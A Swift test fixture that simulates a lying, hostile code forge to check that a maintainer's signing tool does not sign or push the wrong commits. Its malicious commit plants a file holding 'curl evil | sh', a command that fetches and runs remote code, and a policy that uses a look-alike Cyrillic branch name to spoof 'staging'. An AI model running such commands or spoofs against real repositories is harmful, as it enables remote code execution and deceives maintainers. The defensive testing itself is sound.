import Foundation
import Support
import Testing

/// A forge with two requests, the clone of a maintainer who has judged its `staging` before, and a repository that can
/// stand in for the server's. Each lie finds them as they were.
final class ForgeLieWorld {
  let forge: TestForge
  let alice: VirtualCard
  private let dave: VirtualCard
  private let folder: TemporaryFolder
  /// What texts of lies may name.
  private(set) var places: [String: String] = [:]
  /// What an honest review prints for `--reviewed`, by request.
  private var words: [Int: String] = [:]
  /// How long an honest look takes on this machine at this moment.
  private var honest = Duration.zero
  private var count = 0

  static let standIn = "eve/stagex"

  init() throws {
    forge = try TestForge()
    alice = try VirtualCard()
    dave = try VirtualCard(name: "Dave")
    folder = try TemporaryFolder()
    let seed = try forge.clone()
    try writeHistory(seed)
    try writeServer(seed)
    try openRequests()
    try makeClone()
    let root = rootFolder
    try Tool.succeed("cp", ["-a", root, "\(folder.path)/honest"])
    for number in [1, 2] {
      let start = ContinuousClock.now
      let look = try run(["cosign", String(number), "--dry-run"], in: "\(folder.path)/clone")
      honest = ContinuousClock.now - start
      guard look.status == 0, let word = Self.word(look) else { throw StepFailed("the honest forge: \(look.all)") }
      words[number] = word
      try Tool.succeed("git", ["-C", "\(folder.path)/clone", "update-ref", "-d", "refs/stagex-maint/pr/\(number)"])
    }
    // It remembers staging, and has the requests to fetch yet.
    try Tool.succeed("git", ["-C", "\(folder.path)/clone", "prune", "--expire=now"])
    for name in ["HEAD", "SECOND", "EVIL"] {
      guard try Tool.run("git", ["-C", "\(folder.path)/clone", "cat-file", "-e", places[name]!]).status != 0 else {
        throw StepFailed("the clone has \(name) already: what is told of its objects would have no effect")
      }
    }
  }

  /// The forge's own folder, with the repositories and all that it knows.
  private var rootFolder: String { String(forge.path().dropLast("/\(TestForge.repository).git".count)) }

  // MARK: how it was made

  private func writeHistory(_ seed: ForgeClone) throws {
    places["BELOW"] = forge.rootCommit
    try seed.git("checkout", "-q", "--detach", "origin/staging")
    var registry = "[people]\n"
    try Tool.succeed("mkdir", ["\(seed.path)/keys"])
    for (person, card) in [("alice", alice), ("dave", dave)] {
      registry += """
        [people.\(person)]
        name = "\(person)"
        [keys.\(person).card]
        id = "\(card.fingerprint)"
        devices = "YubiKey 5"

        """
      try CosignServer.write("\(seed.path)/keys/\(card.fingerprint).asc", try card.certificate())
    }
    let policy = """
      version = 2
      repository = "127.0.0.1/stagex/stagex"
      [[branch]]
      name = "sandbox/*"
      threshold = 1

      """
    try seed.git("add", "keys")
    places["START"] = try seed.commit(
      "Registry", files: ["MAINTAINERS": registry, "review.toml": policy, "packages": "one\n"])
    let start = places["START"]!
    func merge(_ name: String, of change: String, onto base: String) throws -> String {
      try seed.git("checkout", "-q", "--detach", base)
      try seed.git(
        "-c", "user.signingkey=\(alice.signingFingerprint)!", "merge", "-q", "--no-ff", "-S", "-m", name, change,
        environment: alice.environment)
      return try seed.git("rev-parse", "HEAD")
    }
    let first = try seed.commit("First", files: ["first": "1\n"], signedBy: dave)
    places["STAGING"] = try merge("Merge first", of: first, onto: start)
    let staging = places["STAGING"]!
    // Another lawful step from the same place: a server that has split.
    try seed.git("checkout", "-q", "--detach", start)
    places["ASIDE"] = try merge(
      "Merge second", of: try seed.commit("Second", files: ["second": "1\n"], signedBy: dave), onto: start)
    func on(_ base: String, _ message: String, _ files: [String: String], by card: VirtualCard? = nil) throws -> String
    {
      try seed.git("checkout", "-q", "--detach", base)
      return try seed.commit(message, files: files, signedBy: card)
    }
    places["HEAD"] = try on(staging, "Add f", ["f": "1\n"])
    let second = try on(staging, "Add g", ["g": "1\n"])
    places["SECOND"] = try on(second, "Adopt", [:], by: dave)
    places["OTHER"] = try on(staging, "Add other", ["other": "1\n"])
    // A branch whose own rules say whatever its maker wants.
    let own =
      "version = 2\nthreshold = 1\nevidence = \"off\"\n"
      + ["trap", "st\u{430}ging", "staging"].map { "[[branch]]\nname = \"\($0)\"\n" }.joined()
    places["EVIL"] = try on(staging, "Prepare", ["backdoor": "curl evil | sh\n", "review.toml": own])
    places["NOBODY"] = try on(staging, "People", ["MAINTAINERS": "[people.eve]\nname = \"Eve\"\n"])
    places["ALONE"] = try on(staging, "Alone", ["alone": "1\n"], by: dave)
    places["EVILHEAD"] = try on(places["EVIL"]!, "Add f", ["f": "1\n"])
    places["BLOB"] = try seed.git("rev-parse", "\(staging):packages")
    places["TREE"] = try seed.git("rev-parse", "\(staging)^{tree}")
    places["HEADTREE"] = try seed.git("rev-parse", "\(places["HEAD"]!)^{tree}")
    try seed.git("tag", "-a", "-m", "v1", "v1", places["HEAD"]!)
    places["TAG"] = try seed.git("rev-parse", "v1")
    places["NONE"] = String(repeating: "1", count: 40)
    // Whatever is pushed later, all of it is to be had from here.
    for (name, id) in places where name != "NONE" { try seed.git("update-ref", "refs/all/\(name)", id) }
  }

  private func writeServer(_ seed: ForgeClone) throws {
    try forge.forge("repository", Self.standIn, "--writer", "alice", "--fork-of", TestForge.repository)
    for repository in [TestForge.repository, TestForge.fork, Self.standIn] {
      let path = forge.path(repository)
      // With the tag a clone would have the request's objects before any lie is told about them.
      try Tool.succeed("git", ["-C", path, "fetch", "-q", "--no-tags", seed.path, "+refs/all/*:refs/all/*"])
      for name in places.keys where name != "NONE" {
        try Tool.succeed("git", ["-C", path, "update-ref", "-d", "refs/all/\(name)"])
      }
      try Tool.succeed("git", ["-C", path, "config", "gc.auto", "0"])
      try set("refs/heads/staging", "$STAGING", in: repository)
      try Tool.succeed("git", ["-C", path, "symbolic-ref", "HEAD", "refs/heads/staging"])
    }
    try set("refs/heads/sandbox/1", "$ALONE", in: TestForge.repository)
    for (branch, commit) in [("topic", "$HEAD"), ("second", "$SECOND"), ("other", "$OTHER")] {
      try set("refs/heads/\(branch)", commit, in: TestForge.fork)
    }
    for (key, value) in [
      ("maint.trustRoot", places["START"]!), ("maint.lead", "staging"), ("maint.program", CosignServer.program),
    ] {
      try Tool.succeed("git", ["-C", forge.path(), "config", key, value])
    }
    try forge.installHook("\(Tool.packageFolder)/hooks/pre-receive")
  }

  private func openRequests() throws {
    let page = "/repos/\(TestForge.repository)/pulls"
    for (number, branch) in [(1, "topic"), (2, "second")] {
      try forge.call(
        "POST", page, as: "bob",
        body: #"{"title": "Add \#(branch)", "head": "bob:\#(branch)", "base": "staging", "body": ""}"#)
      try forge.call("PATCH", "\(page)/\(number)", as: "bob", body: #"{"allow_maintainer_edit": true}"#)
    }
    try Tool.succeed(
      "git",
      [
        "-C", forge.path(Self.standIn), "fetch", "-q", forge.path(), "+refs/heads/*:refs/heads/*",
        "+refs/pull/*:refs/pull/*",
      ])
  }

  private func makeClone() throws {
    let clone = "\(folder.path)/clone"
    try Tool.succeed("git", ["clone", "-q", forge.remote(), clone])
    let helper = "!f() { echo username=alice; echo password=pw-alice; }; f"
    for (key, value) in [
      ("user.name", "alice"), ("user.email", "alice@example.org"), ("maint.trustRoot", places["START"]!),
      ("maint.lead", "staging"),
      ("maint.forge", "forgejo"), ("credential.\(forge.url).helper", helper),
    ] { try Tool.succeed("git", ["-C", clone, "config", key, value]) }
  }

  // MARK: one lie

  /// Puts everything back, and tells the lie from then on.
  func tell(_ lie: ForgeLie) throws {
    try restore()
    for (ref, place) in lie.refs { try set(ref, place, in: TestForge.repository) }
    for (ref, place) in lie.shown ?? [:] { try set(ref, place, in: Self.standIn) }
    for (ref, target) in lie.symbolic {
      try Tool.succeed("git", ["-C", forge.path(Self.standIn), "symbolic-ref", ref, target])
    }
    try speak(lie)
  }

  func restore() throws {
    let root = rootFolder
    let names = ["stagex", "bob", "eve", "state.json"]
    try Tool.succeed("rm", ["-rf"] + names.map { "\(root)/\($0)" })
    try Tool.succeed("cp", ["-a"] + names.map { "\(folder.path)/honest/\($0)" } + [root])
  }

  /// Rules count the requests that they have seen, so that each command meets them anew.
  private func speak(_ lie: ForgeLie) throws {
    var rules = lie.rules
    let number = lie.request
    func json(_ members: [String: String], prefix: String) -> String {
      members.sorted { $0.key < $1.key }.map { "\"\(prefix)\($0.key)\": \($0.value)" }.joined(separator: ", ")
    }
    if !lie.patch.isEmpty {
      rules.append(
        #"{"path": "/pulls/\#(number)$", "method": "GET", "do": {"patch": {\#(json(lie.patch, prefix: ""))}}}"#)
      // The newest stands first.
      rules.append(
        #"""
        {"path": "/pulls$", "method": "GET", "times": 1, \#
        "do": {"patch": {\#(json(lie.patch, prefix: "\(2 - number)."))}}}
        """#)
    }
    if let answer = lie.answer {
      rules.append(#"{"path": "/pulls(/\#(number))?$", "method": "GET", "do": \#(answer)}"#)
    }
    if lie.shown != nil || !lie.symbolic.isEmpty {
      rules.append(#"{"path": "/stagex/stagex.git/(info/refs|git-upload-pack)$", "do": {"serve": "\#(Self.standIn)"}}"#)
    }
    try forge.forge("hostile", "-", input: rules.map(filled).joined(separator: "\n"))
  }

  func filled(_ text: String) -> String {
    places.sorted { $0.key.count > $1.key.count }.reduce(text) { $0.replacing("$" + $1.key, with: $1.value) }
  }

  private func set(_ ref: String, _ place: String, in repository: String) throws {
    let words = place.isEmpty ? ["update-ref", "-d", ref] : ["update-ref", ref, filled(place)]
    try Tool.succeed("git", ["-C", forge.path(repository)] + words)
  }

  /// The maintainer's clone as it was before any lie.
  func freshClone() throws -> String {
    count += 1
    let copy = "\(folder.path)/clone-\(count)"
    try Tool.succeed("cp", ["-a", "\(folder.path)/clone", copy])
    return copy
  }

  func run(_ words: [String], in clone: String, extra: [String: String] = [:]) throws -> Tool.Result {
    try Tool.run(
      CosignServer.program, words,
      environment: alice.environment.merging(["MAINT_TOKEN": forge.token(of: "alice")]) { $1 }.merging(extra) { $1 },
      folder: clone, seconds: 120)
  }

  /// Runs a command against the lie, and looks at what must be so whatever is told: soon, and safe to print.
  func meet(_ lie: ForgeLie, _ words: [String], in clone: String, extra: [String: String] = [:]) throws -> Tool.Result {
    try speak(lie)
    let start = ContinuousClock.now
    let result = try run(words, in: clone, extra: extra)
    let time = ContinuousClock.now - start
    #expect(time - honest < .seconds(10), "\(lie.says): \(words) took \(time)")
    let unsafe = result.all.unicodeScalars.filter {
      $0 != "\n" && $0 != "\t"
        && ($0.properties.generalCategory == .control || $0.properties.generalCategory == .format)
    }
    #expect(unsafe.isEmpty, "\(lie.says): prints \(unsafe)")
    return result
  }

  // MARK: cosign

  func cosign(_ lie: ForgeLie, _ outcome: ForgeLie.Outcome) throws {
    try tell(lie)
    let clone = try freshClone()
    let before = try refs()
    let touches = try alice.signatureCount()
    let command = ["cosign", String(lie.request)] + lie.words
    let word = lie.person == .agreed ? words[lie.request] : nil
    var result = try meet(lie, command + (word.map { ["--reviewed", $0] } ?? ["--dry-run"]), in: clone)
    var screen = result.text
    if lie.person == .agrees, result.status == 0, let word = Self.word(result) {
      result = try meet(lie, command + ["--reviewed", word], in: clone)
      screen = result.text
    }
    switch outcome {
    case .told(let status, let text):
      #expect(result.status == status && says(result, text), "\(lie.says): \(result.status) \(result.all)")
      // What was signed before the lie was met is kept here, and has gone nowhere.
      for id in try kept(clone) { #expect(!(try refs().values.contains(id)), "\(lie.says): \(id) was pushed") }
      if lie.person != .agreed { #expect(try alice.signatureCount() == touches + lie.signatures, "\(lie.says)") }
      for id in try kept(clone) { try demandCovers(id, screen, clone, lie) }
      // Nor has what was signed and not even kept.
      let new = try refs().filter { before[$0.key] != $0.value && isOurs($0.value, clone) }
      #expect(new.isEmpty, "\(lie.says): \(new) was pushed")
    case .says(let text):
      #expect(result.status == 0 && says(result, text), "\(lie.says): \(result.status) \(result.all)")
      try demandShown(screen, before, clone, lie)
    case .honest:
      #expect(result.status == 0, "\(lie.says): \(result.status) \(result.all)")
      #expect(!result.text.contains("the forge says that"), "\(lie.says): \(result.all)")
      try demandShown(screen, before, clone, lie)
    }
    try Tool.succeed("rm", ["-rf", clone])
  }

  /// The screen is about the true head and the true base, once each; what was pushed covers just that.
  private func demandShown(_ screen: String, _ before: [String: String], _ clone: String, _ lie: ForgeLie) throws {
    let lines = screen.split(separator: "\n")
    let head = filled(lie.request == 1 ? "$HEAD" : "$SECOND")
    #expect(lines.filter { $0.hasPrefix("head    ") } == ["head    \(head)"], "\(lie.says): \(screen)")
    #expect(lines.filter { $0.hasPrefix("base    ") } == ["base    \(filled(lie.base))"], "\(lie.says): \(screen)")
    let new = try refs().filter { before[$0.key] != $0.value && isOurs($0.value, clone) }.values
    if lie.person == .looks {
      #expect(new.isEmpty, "\(lie.says): pushed by a look")
    } else {
      #expect(!new.isEmpty, "\(lie.says): nothing pushed\n\(screen)")
    }
    for id in Set(new) { try demandCovers(id, screen, clone, lie) }
  }

  private func isOurs(_ id: String, _ clone: String) -> Bool {
    (try? Tool.run("git", ["-C", clone, "log", "-1", "--format=%(trailers:key=Reviewed-Base)", id]).line.isEmpty)
      == false
  }

  /// A signature of ours reaches from the base of the screen to its head, over the commits of the screen and no others.
  private func demandCovers(_ id: String, _ screen: String, _ clone: String, _ lie: ForgeLie) throws {
    func git(_ words: String...) throws -> [String] {
      try Tool.succeed("git", ["-C", clone] + words).text.split(separator: "\n").map(String.init)
    }
    func value(_ name: String) -> String {
      screen.split(separator: "\n").first { $0.hasPrefix(name) }.map { String($0.dropFirst(8)) } ?? ""
    }
    let (head, base) = (value("head    "), value("base    "))
    let parents = try git("rev-list", "--parents", "-1", id)[0].split(separator: " ").dropFirst().map(String.init)
    #expect(parents == [head] || parents == [base, head], "\(lie.says): stands on \(parents)")
    let trailers = try git("log", "-1", "--format=%(trailers)", id)
    #expect(trailers.contains("Reviewed-Base: \(base)"), "\(lie.says): \(trailers)")
    #expect(trailers.contains("Reviewed-Repository: 127.0.0.1/stagex/stagex"), "\(lie.says): \(trailers)")
    for commit in try git("rev-list", head, "^" + base) {
      #expect(screen.contains("\n\(commit.prefix(12))  "), "\(lie.says): \(commit) is endorsed and not on the screen")
    }
  }

  // MARK: queue

  func queue(_ lie: ForgeLie, _ outcome: ForgeLie.Outcome) throws {
    try tell(lie)
    let clone = try freshClone()
    let before = try refs()
    let result = try meet(lie, ["queue"], in: clone)
    var offer = ""
    var isIn = false
    for line in result.text.split(separator: "\n") {
      if line.hasPrefix("PR-") { isIn = line.hasPrefix("PR-\(lie.request) ") }
      if isIn { offer += line + "\n" }
    }
    switch outcome {
    case .told(let status, let text):
      #expect(result.status == status && says(result, text), "\(lie.says): \(result.status) \(result.all)")
      #expect(!offer.contains("you can"), "\(lie.says): \(result.all)")
    case .says(let text):
      #expect(result.status == 0 && says(result, text), "\(lie.says): \(result.status) \(result.all)")
    case .honest:
      #expect(
        result.status == 0 && offer.contains("you can \(lie.request == 1 ? "adopt" : "merge") it"),
        "\(lie.says): \(result.status) \(result.all)")
    }
    for (ref, id) in try refs() where before[ref] != id {
      #expect(!isOurs(id, clone), "\(lie.says): queue has pushed \(ref)")
    }
    try Tool.succeed("rm", ["-rf", clone])
  }

  func says(_ result: Tool.Result, _ text: String) -> Bool {
    // Long lines are folded at blanks.
    func flat(_ text: String) -> String { text.split(whereSeparator: \.isWhitespace).joined(separator: " ") }
    return text.isEmpty || flat(result.all).contains(flat(filled(text)))
  }

  // MARK: what there is

  /// Every ref of the server's and of the fork's.
  private func refs() throws -> [String: String] {
    var found: [String: String] = [:]
    for repository in [TestForge.repository, TestForge.fork] {
      for line in try Tool.succeed(
        "git", ["-C", forge.path(repository), "for-each-ref", "--format=%(refname) %(objectname)"]
      ).text.split(separator: "\n") {
        let parts = line.split(separator: " ")
        found["\(repository) \(parts[0])"] = String(parts[1])
      }
    }
    return found
  }

  /// Signatures that the clone keeps for a later push.
  private func kept(_ clone: String) throws -> [String] {
    try Tool.succeed("git", ["-C", clone, "for-each-ref", "--format=%(objectname)", "refs/stagex-maint/signed"]).text
      .split(separator: "\n").map(String.init)
  }

  private static func word(_ look: Tool.Result) -> String? {
    look.text.firstRange(of: "it is agreed to by: --reviewed ").map {
      String(look.text[$0.upperBound...].prefix { $0 != "\n" })
    }
  }
}
